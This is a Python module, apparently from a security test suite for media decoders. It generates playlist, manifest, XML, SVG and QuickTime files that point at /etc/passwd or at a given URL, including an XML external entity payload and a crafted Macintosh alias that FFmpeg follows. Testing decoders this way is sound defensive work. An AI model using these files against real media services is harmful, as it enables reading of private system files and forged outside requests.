"""Files without audio that refer to another place: a decoder that follows them reads what it must not."""

from collections.abc import Iterator
from pathlib import Path

from hostile import HostileFile
from media import clip, encode
from packing import atom, id3
from recordings import REPEATABLE, SPEECH

SECRET = Path("/etc/passwd").as_uri()
TEXTS = {
    "playlist.m3u8": "#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n{url}\n#EXT-X-ENDLIST\n",
    "keyed.m3u8": '#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXT-X-KEY:METHOD=AES-128,URI="{url}"\n#EXTINF:9,\n{url}\n',
    "master.m3u8": "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{url}\n",
    "plain.m3u": "{url}\n",
    "list.ffconcat": "ffconcat version 1.0\nfile '{url}'\n",
    "list.pls": "[playlist]\nFile1={url}\nNumberOfEntries=1\n",
    "list.xspf": '<playlist version="1"><trackList><track><location>{url}</location></track></trackList></playlist>',
    "list.asx": '<asx version="3.0"><entry><ref href="{url}"/></entry></asx>',
    "list.smil": '<smil><body><audio src="{url}"/></body></smil>',
    "reference.asf": "[Reference]\nRef1={url}\n",
    "live.sdp": "v=0\nc=IN IP4 127.0.0.1\nt=0 0\nm=audio 5004 RTP/AVP 0\na=control:{url}\n",
    "manifest.mpd": '<MPD><Period><BaseURL>{url}</BaseURL><AdaptationSet mimeType="audio/mp4"/></Period></MPD>',
    "ram.ram": "{url}\n",
    "concat.txt": "concat:{url}|{url}",
    "subfile.txt": "subfile,,start,0,end,99,,:{url}",
    "entity.xml": '<!DOCTYPE x [<!ENTITY e SYSTEM "{url}">]><x>&e;</x>',
    "image.svg": '<svg xmlns="http://www.w3.org/2000/svg"><image href="{url}"/></svg>',
}
"""Playlists and other texts that contain an address."""


def references(url: str) -> Iterator[HostileFile]:
    """Yield files that refer to a file of this machine, and the same files referring to `url`."""
    movie = encode(clip(SPEECH), "mov", "aac", **REPEATABLE)
    for target, address in (("file", SECRET), ("http", url)):
        for name, text in TEXTS.items():
            yield HostileFile(f"{target}-{name}", text.format(url=address).encode())
        yield HostileFile(f"{target}-reference.mov", _reference_movie(address))
        yield HostileFile(f"{target}-data-elsewhere.mov", _with_data_elsewhere(movie, address))
        yield HostileFile(f"{target}-playlist.mp3", id3(b"") + TEXTS["playlist.m3u8"].format(url=address).encode())


def _reference_movie(url: str) -> bytes:
    address = url.encode() + b"\0"
    reference = atom(b"rdrf", bytes(4), b"url ", len(address).to_bytes(4, "big"), address)
    return atom(b"ftyp", b"qt  ", bytes(4)) + atom(b"moov", atom(b"rmra", atom(b"rmda", reference)))


def _with_data_elsewhere(movie: bytes, url: str) -> bytes:
    """Return a movie whose samples are at `url`. Its index must be at the end, so that nothing moves as it grows."""
    grown = bytearray(movie)
    at = movie.index(b"dref") + 12  # behind its version and its count of entries
    old = int.from_bytes(movie[at : at + 4], "big")
    entry = _alias(url.removeprefix("file://"))
    grown[at : at + old] = entry
    for parent in (b"moov", b"trak", b"mdia", b"minf", b"dinf", b"dref"):
        size_at = movie.rindex(parent) - 4
        size = int.from_bytes(movie[size_at : size_at + 4], "big") + len(entry) - old
        grown[size_at : size_at + 4] = size.to_bytes(4, "big")
    return bytes(grown)


def _alias(path: str) -> bytes:
    """Return a Macintosh alias, the only reference that FFmpeg would follow: fields of fixed size, then the path."""
    place = b"\0\2" + len(path).to_bytes(2, "big") + path.encode() + b"\0" * (len(path) % 2)
    return atom(b"alis", bytes(4), bytes(130), b"\0\1\0\1", bytes(16), place, b"\xff\xff\0\0")
